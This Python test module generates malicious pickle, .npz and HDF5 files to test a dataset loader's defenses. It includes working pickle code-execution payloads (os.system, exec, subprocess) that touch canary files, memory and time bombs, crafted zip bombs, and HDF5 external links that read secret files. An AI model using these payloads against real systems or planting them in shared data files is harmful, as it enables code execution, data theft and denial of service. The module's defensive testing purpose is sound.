"""Files that attack whoever opens them; nothing of the package is imported here.

`code` attacks leave a canary file when they get to run; `memory` and `time` attacks
take more than a small file may; `reach` attacks read a secret outside of the file.
"""

import dataclasses
import io
import pathlib
import struct
import zipfile
import zlib

import h5py
import numpy as np

EVERY = range(6)


@dataclasses.dataclass(frozen=True)
class Attack:
  name: str
  kind: str  # code, memory, time, reach
  data: bytes


# Instructions, written out as a pickler of each protocol would.


def text(value: str, protocol: int) -> bytes:
  if protocol == 0:
    return b"V" + value.encode("raw-unicode-escape") + b"\n"
  raw = value.encode()
  return b"X" + struct.pack("<I", len(raw)) + raw


def name(module: str, attribute: str, protocol: int) -> bytes:
  if protocol < 4:
    return f"c{module}\n{attribute}\n".encode()
  return text(module, protocol) + text(attribute, protocol) + b"\x93"


def value(item, protocol: int) -> bytes:
  if isinstance(item, bytes):
    return item
  if isinstance(item, str):
    return text(item, protocol)
  if isinstance(item, int):
    return f"I{item}\n".encode()
  if isinstance(item, (list, tuple)):
    end = b"l" if isinstance(item, list) else b"t"
    return b"(" + b"".join(value(x, protocol) for x in item) + end
  if isinstance(item, dict):
    pairs = [x for pair in item.items() for x in pair]
    return b"(" + b"".join(value(x, protocol) for x in pairs) + b"d"
  raise TypeError(type(item))


def call(module, attribute, arguments, protocol) -> bytes:
  return name(module, attribute, protocol) + value(tuple(arguments), protocol) + b"R"


def whole(body: bytes, protocol: int) -> bytes:
  start = b"\x80" + bytes([protocol]) if protocol >= 2 else b""
  return start + body + b"."


def callables(canary: str):
  """(module, name, arguments) that create the canary."""
  touch, code = f"touch {canary}", f"open({canary!r}, 'w').close()"
  return [
    ("posix", "system", [touch]),
    ("os", "system", [touch]),
    ("builtins", "exec", [code]),
    ("builtins", "eval", [code]),
    ("__builtin__", "eval", [code]),
    ("builtins", "open", [canary, "w"]),
    ("io", "open", [canary, "w"]),
    ("codecs", "open", [canary, "w"]),
    ("os", "mkdir", [canary]),
    ("os", "open", [canary, 65]),
    ("os", "symlink", ["x", canary]),
    ("subprocess", "call", [["touch", canary]]),
    ("subprocess", "getoutput", [touch]),
    ("subprocess", "check_output", [["touch", canary]]),
    ("commands", "getoutput", [touch]),
    ("cProfile", "run", [code]),
    ("gzip", "open", [canary, "w"]),
    ("zipfile", "ZipFile", [canary, "w"]),
    ("sqlite3", "connect", [canary]),
    ("logging", "FileHandler", [canary]),
    ("numpy", "memmap", [canary, "uint8", "w+", 0, 1]),
    ("numpy.testing._private.utils", "runstring", [code, {}]),
    ("shutil", "copyfile", ["/etc/hostname", canary]),
    (
      "pickle",
      "loads",
      [
        b"c_codecs\nencode\n(Vcposix\\u000asystem\\u000a(V"
        + touch.encode()
        + b"\\u000atR.\nVlatin1\ntR"
      ],
    ),
  ]


def forms(canary: str, p: int):
  """(name, body): one call hidden in many ways."""
  touch = f"touch {canary}"
  boom = call("posix", "system", [touch], p)
  system, argument = name("posix", "system", p), text(touch, p)
  memmap = name("numpy", "memmap", p)
  create = value((canary, "uint8", "w+", 0, 1), p)
  array = call(
    "numpy.core.multiarray",
    "_reconstruct",
    [name("numpy", "ndarray", p), (0,), text("b", p)],
    p,
  )
  kind = call("numpy", "dtype", [text("O8", p), 0, 1], p)
  kind += value((3, "|", b"N", b"N", b"N", -1, -1, 63), p) + b"b"
  partial = name("functools", "partial", p) + b"(" + name("builtins", "len", p) + b"tR"
  imported = call("builtins", "__import__", ["os"], p)
  yield from {
    "in a list": b"(" + boom + b"l",
    "in a dict": b"(" + text("train", p) + boom + b"d",
    "as a key": b"(" + boom + text("train", p) + b"d",
    "in a tuple": b"(" + boom + b"I1\nt",
    "set later": b"(d" + text("train", p) + b"(d" + text("text", p) + boom + b"ss",
    "appended": b"(l" + boom + b"a",
    "dropped": boom + b"0(l",
    "dropped to a mark": b"(" + boom + b"1(l",
    "behind good data": b"(" + text("labels", p) + b"(lp7\n0" + boom + b"g7\nd",
    "through the memo": system + b"p3\n0(lp4\n0g3\n(" + argument + b"tR",
    "memo overwritten": text("x", p)
    + b"p0\n0"
    + system
    + b"p0\n0g0\n("
    + argument
    + b"tR",
    "memo far away": system + b"p90\n0" + b"g90\n(" + argument + b"tR",
    "arguments by memo": argument + b"p1\n0" + system + b"(g1\ntR",
    "doubled": system + b"2(" + argument + b"tR(" + b"lp1\n0",
    "an instance": b"(" + argument + b"iposix\nsystem\n",
    "an old instance": b"(" + system + argument + b"o",
    "in an array": array + value((1, (1,), kind, b"I00\n", [boom]), p) + b"b",
    "in an ordered dict": call("collections", "OrderedDict", [[["x", boom]]], p),
    "a partial": partial + b"(" + system + b"(" + argument + b"t(dNtb)R",
    "by attribute": name("builtins", "getattr", p)
    + b"("
    + imported
    + text("system", p)
    + b"tR("
    + argument
    + b"tR",
    "by map": call(
      "builtins", "set", [call("builtins", "map", [system, [argument]], p)], p
    ),
    "by reconstructor": call(
      "copyreg", "__newobj__", [memmap, canary, "uint8", "w+", 0, 1], p
    ),
    "by the old reconstructor": call(
      "copy_reg", "__newobj__", [memmap, canary, "uint8", "w+", 0, 1], p
    ),
    "text in escapes": b"S'\\x70osix'\n0" + boom,
  }.items()
  if p >= 2:
    yield "a new object", memmap + create + b"\x81"
    yield "in three", b"N" + boom + b"N\x87"
  if p >= 4:
    yield "a new object with names", memmap + create + b"}\x92"
    yield (
      "a dotted name",
      text("shutil", p) + text("os.system", p) + b"\x93(" + argument + b"tR",
    )
    yield "a name of old strings", b"U\x05posixU\x06system\x93(" + argument + b"tR"
    yield "a name in escapes", b"S'\\x70osix'\nS'sys\\164em'\n\x93(" + argument + b"tR"
    yield (
      "a name by memo",
      (
        text("posix", p)
        + b"\x94"
        + text("system", p)
        + b"\x9400h\x00h\x01\x93("
        + argument
        + b"tR"
      ),
    )
    yield "in a set", b"\x8f(" + boom + b"\x90"
    yield "in a frozen set", b"(" + boom + b"\x91"


def code_attacks(folder: pathlib.Path) -> list[Attack]:
  """Every callable and every form in every protocol, each with a canary of its own."""
  found = []

  def add(label, make):
    canary = str(folder / f"canary{len(found)}")
    found.append(Attack(label, "code", make(canary)))

  for protocol in EVERY:
    for index, (module, attribute, _) in enumerate(callables("")):
      make = lambda canary, i=index, p=protocol: whole(
        call(*callables(canary)[i], p), p
      )
      add(f"{module}.{attribute}, protocol {protocol}", make)
    for label, _ in forms("", protocol):
      make = lambda canary, x=label, p=protocol: whole(dict(forms(canary, p))[x], p)
      add(f"{label}, protocol {protocol}", make)
  for protocol in (2, 4):
    make = lambda canary, p=protocol: label_file(
      whole(dict(forms(canary, p))["in an array"], p)
    )
    add(f"MERBench labels, protocol {protocol}", make)
  return found


def label_file(pickled: bytes) -> bytes:
  """An .npz whose object array is a pickle."""
  header = io.BytesIO()
  np.lib.format.write_array_header_1_0(
    header, {"descr": "|O", "fortran_order": False, "shape": ()}
  )
  file = io.BytesIO()
  with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("train_corpus.npy", header.getvalue() + pickled)
  return file.getvalue()


def memory_attacks() -> list[Attack]:
  """Pickles of at most a few MB that ask for gigabytes."""
  array = call(
    "numpy.core.multiarray",
    "_reconstruct",
    [name("numpy", "ndarray", 2), (1 << 33,), text("d", 2)],
    2,
  )
  many = 2_500_000
  bodies = {
    "bytes announced": b"\x96" + struct.pack("<Q", 1 << 40) + b"x",
    "memo": b"Nr\xff\xff\xff\x7f",
    "old memo": b"Np2147483647\n",
    "huge array": array,
    "sets": b"(" + b"\x8f" * many + b"t",
    "dicts": b"(" + b"}" * many * 4 + b"t",
    "lists": b"(" + b"]" * many * 4 + b"t",
  }
  return [Attack(k, "memory", whole(b, 5)) for k, b in bodies.items()]


def time_attacks() -> list[Attack]:
  """Keys whose hash takes forever, or more of the stack than there is."""
  doubled = b"N\x85" + b"2\x86" * 60
  deep = b"N" + b"\x85" * 3_000_000
  return [
    Attack("doubled key", "time", whole(b"}" + doubled + b"Ns", 4)),
    Attack("doubled item", "time", whole(b"\x8f(" + doubled + b"\x90", 4)),
    Attack("deep key", "time", whole(b"}" + deep + b"Ns", 4)),
  ]


def laughing_attacks() -> list[Attack]:
  """Small pickles whose lists repeat one another: harmless until they become arrays."""
  lists = b"]q\x00(" + b"G\x3f\xf0\0\0\0\0\0\0" * 100 + b"e0"
  for level in range(6):
    lists += (
      b"]"
      + bytes([ord("q"), level + 1])
      + b"("
      + bytes([ord("h"), level]) * 100
      + b"e0"
    )
  entry = lambda features: whole(
    b"}"
    + text("train", 2)
    + b"}("
    + text("text", 2)
    + features
    + text("labels", 2)
    + b"](I1\neus",
    2,
  )
  numbers = np.zeros(1 << 20, np.uint8).tobytes()
  kind = call("numpy", "dtype", ["u1", 0, 1], 2)
  array = (
    call(
      "numpy.core.multiarray",
      "_reconstruct",
      [name("numpy", "ndarray", 2), (0,), "b"],
      2,
    )
    + b"q\x00(I1\n(I1024\nI1024\nt"
  )
  array += kind + b"I00\nT" + struct.pack("<I", len(numbers)) + numbers + b"tb0"
  many = array + b"](" + b"h\x00" * 100_000 + b"e"
  long_id = text("x" * 100_000, 2)
  ids = b"](" + long_id + b"Vx\n" * 100_000 + b"e"
  zeros = (
    call(
      "numpy.core.multiarray",
      "_reconstruct",
      [name("numpy", "ndarray", 2), (0,), "b"],
      2,
    )
    + b"(I1\n(I100001\nI1\nt"
  )
  zeros += kind + b"I00\nT" + struct.pack("<I", 100_001) + b"\1" * 100_001 + b"tb"
  named = b"}(" + text("text", 2) + zeros + text("id", 2) + ids + b"u"
  return [
    Attack("nested lists", "memory", entry(lists + b"h\x06")),
    Attack("one array many times", "memory", entry(many)),
    Attack("one long id", "memory", whole(named, 2)),
  ]


def npz_attacks() -> list[Attack]:
  """Archives that expand to gigabytes, or say that they do."""

  def archive(*members):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as target:
      for key, data in members:
        target.writestr(key, data)
    return bytearray(file.getvalue())

  def npy(shape, data=b""):
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(
      header, {"descr": "<f8", "fortran_order": False, "shape": shape}
    )
    return header.getvalue() + data

  # A block of zeros that ends in a full flush may be repeated at will.
  size = 1 << 22
  packer = zlib.compressobj(9, zlib.DEFLATED, -15)
  block = packer.compress(bytes(size)) + packer.flush(zlib.Z_FULL_FLUSH)
  count = 140
  start = zlib.compressobj(9, zlib.DEFLATED, -15)
  content = npy((count * size // 8,))
  head = start.compress(content) + start.flush(zlib.Z_FULL_FLUSH)
  data = head + block * count + start.flush()
  total = len(content) + count * size

  def one(key, offset):
    raw = key.encode()
    local = struct.pack(
      "<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 8, 0, 33, 0, len(data), total, len(raw), 0
    )
    central = struct.pack(
      "<4sHHHHHHIIIHHHHHII",
      b"PK\1\2",
      20,
      20,
      0,
      8,
      0,
      33,
      0,
      len(data),
      total,
      len(raw),
      0,
      0,
      0,
      0,
      0,
      offset,
    )
    return local + raw, central + raw

  local, central = one("text.npy", 0)
  body = local + data
  end = lambda n, size, at: struct.pack(
    "<4sHHHHIIH", b"PK\5\6", 0, 0, n, n, size, at, 0
  )
  corpus, central2 = one("train_corpus.npy", 0)
  labels = corpus + data
  return [
    Attack(
      "zip bomb", "memory", bytes(body + central + end(1, len(central), len(body)))
    ),
    Attack(
      "label bomb",
      "memory",
      bytes(labels + central2 + end(1, len(central2), len(labels))),
    ),
    Attack(
      "overlapping members",
      "memory",
      bytes(body + central * 2 + end(2, 2 * len(central), len(body))),
    ),
    Attack(
      "array larger than its member",
      "memory",
      bytes(archive(("id.npy", npy((1 << 40,))), ("text.npy", npy((1 << 40,))))),
    ),
  ]


def hdf5_attacks(folder: pathlib.Path) -> list[Attack]:
  """Sequences that declare what was never written, or lead out of the file."""
  secret = folder / "secret.h5"
  with h5py.File(secret, "w") as file:
    file["features"] = np.full((3, 2), 42.0)
    file["entry/features"] = np.full((3, 2), 42.0)
    file["entry/intervals"] = np.ones((3, 2))
  (folder / "secret.bin").write_bytes(np.full(6, 42.0).tobytes())
  found = []

  def add(label, kind, make):
    path = folder / "made.csd"
    with h5py.File(path, "w") as file:
      entry = file.create_group("COVAREP/data/v")
      entry["intervals"] = np.ones((3, 2))
      make(file, entry)
    found.append(Attack(label, kind, path.read_bytes()))
    path.unlink()

  huge = (1 << 33, 4)
  add(
    "never written",
    "memory",
    lambda f, e: e.create_dataset("features", huge, "f8", chunks=(1024, 4)),
  )
  add(
    "gzip never written",
    "memory",
    lambda f, e: e.create_dataset(
      "features", huge, "f8", chunks=(1024, 4), compression="gzip"
    ),
  )
  add(
    "huge chunk",
    "memory",
    lambda f, e: e.create_dataset(
      "features", (1 << 25, 4), "f4", maxshape=(None, 4), chunks=(1 << 25, 4)
    ),
  )

  def repeated(file, entry):
    entry["features"] = np.zeros((1, 4))
    zeros = file["COVAREP/data"].create_group("w")
    zeros.create_dataset(
      "features", data=np.zeros((2_000_000, 4), "f4"), compression="gzip"
    )
    zeros.create_dataset(
      "intervals", data=np.zeros((2_000_000, 2), "f4"), compression="gzip"
    )
    for i in range(20):
      file[f"COVAREP/data/w{i}"] = zeros
    del entry["intervals"]
    entry["intervals"] = np.ones((1, 2))

  add("one entry many times", "memory", repeated)
  link = h5py.ExternalLink(str(secret), "/features")
  add("external link", "reach", lambda f, e: e.__setitem__("features", link))

  def other_entry(file, entry):
    entry["features"] = np.ones((3, 2))
    file["COVAREP/data/w"] = h5py.ExternalLink(str(secret), "/entry")

  add("external group", "reach", other_entry)
  add(
    "external data",
    "reach",
    lambda f, e: e.create_dataset(
      "features", (3, 2), "f8", external=[(str(folder / "secret.bin"), 0, 48)]
    ),
  )

  def virtual(file, entry):
    layout = h5py.VirtualLayout((3, 2), "f8")
    layout[:] = h5py.VirtualSource(str(secret), "features", (3, 2))
    entry.create_virtual_dataset("features", layout)

  add("virtual data", "reach", virtual)
  return found
